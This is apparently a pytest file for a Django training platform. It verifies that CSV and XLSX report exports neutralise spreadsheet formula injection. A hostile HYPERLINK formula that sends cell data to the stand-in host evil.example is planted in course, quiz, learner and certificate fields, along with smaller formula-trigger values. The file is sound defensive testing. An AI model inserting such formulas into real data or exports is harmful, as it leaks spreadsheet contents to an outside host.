"""
Every export the platform makes, opened in a spreadsheet: no learner- or trainer-written text runs
as a formula. CSV cells that could start a formula carry a leading apostrophe; XLSX cells holding
text are string cells, never formulas.
"""

import csv
import datetime
import io
import json

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from certificates.services import issue_certificate
from elearning.spreadsheets import FORMULA_TRIGGERS
from learners.models import LearnerProfile
from modules.models import Enrolment
from tests.factories import UserFactory, build_module
from tests.factories.questions import build_quiz, scenario, scenario_stages, single_choice
from tests.reports.helpers import answer_quiz, pick, scenario_path

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def hostile_stages():
    """The factory's scenario with a stage title a trainer wrote as a formula."""
    stages = scenario_stages()
    stages[0]["value"]["title"] = HOSTILE
    return json.dumps(stages)


@pytest.fixture
def hostile_records(catalogue, manager):
    """A module, questions and a learner, all named with a formula, with records in every report."""
    module = build_module(catalogue, slug="general-awareness", lessons=1, title=HOSTILE)
    choice = single_choice(title=HOSTILE, right="+1 phone the lead", wrong=["@once"])
    car_wash = scenario(title=HOSTILE, stages=hostile_stages())
    quiz = build_quiz(module, [choice, car_wash])
    learner = UserFactory(username="eve")
    LearnerProfile.objects.filter(user=learner).update(display_name=HOSTILE, region="-2+3")
    answer_quiz(
        quiz,
        {
            choice: pick("+1 phone the lead"),
            car_wash: scenario_path(["passport"], "act.private", "follow.lead"),
        },
        user=learner,
    )
    now = timezone.now()
    enrolment = Enrolment.objects.create(
        user=learner,
        module=module,
        module_title=module.title,
        cycle=1,
        started_at=now - datetime.timedelta(days=360),
        completed_at=now - datetime.timedelta(days=350),
        valid_until=timezone.localdate() + datetime.timedelta(days=15),
    )
    issue_certificate(enrolment=enrolment, learner_name=HOSTILE)
    return car_wash


def exports(scenario_question):
    return [
        "/admin/certificates/",
        "/admin/training-reports/compliance/",
        "/admin/training-reports/overdue-and-expiring/",
        "/admin/training-reports/item-analysis/",
        "/admin/training-reports/scenarios/",
        f"/admin/training-reports/scenarios/{scenario_question.pk}/",
        "/admin/training-reports/completions/",
    ]


EXPORT_NAMES = [
    "certificates",
    "compliance",
    "expiry",
    "item analysis",
    "scenarios",
    "scenario detail",
    "completions",
]


@pytest.mark.parametrize("index", range(len(EXPORT_NAMES)), ids=EXPORT_NAMES)
def test_csv_export_escapes_every_formula(hostile_records, client_for, manager, index):
    url = exports(hostile_records)[index]
    response = client_for(manager).get(url, {"export": "csv"}, follow=True)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    cells = [cell for row in list(csv.reader(io.StringIO(body)))[1:] for cell in row]
    assert cells, "the export has rows"
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)], cells
    assert "'" + HOSTILE in cells


@pytest.mark.parametrize("index", range(len(EXPORT_NAMES)), ids=EXPORT_NAMES)
def test_xlsx_export_writes_text_as_text(hostile_records, client_for, manager, index):
    url = exports(hostile_records)[index]
    response = client_for(manager).get(url, {"export": "xlsx"}, follow=True)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    hostile = [cell for cell in cells if cell.value == HOSTILE]
    assert hostile, [cell.value for cell in cells]
    assert {cell.data_type for cell in hostile} == {"s"}


def test_a_learners_own_data_export_is_json_kept_as_typed(hostile_records, client_for, manager):
    """The privacy export is JSON for the person it is about: no spreadsheet reads it, and it
    must give back exactly what is held, so nothing is escaped there."""
    profile = LearnerProfile.objects.get(user__username="eve")
    response = client_for(manager).get(f"/admin/learners/{profile.pk}/export/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert HOSTILE in response.content.decode().replace('\\"', '"')
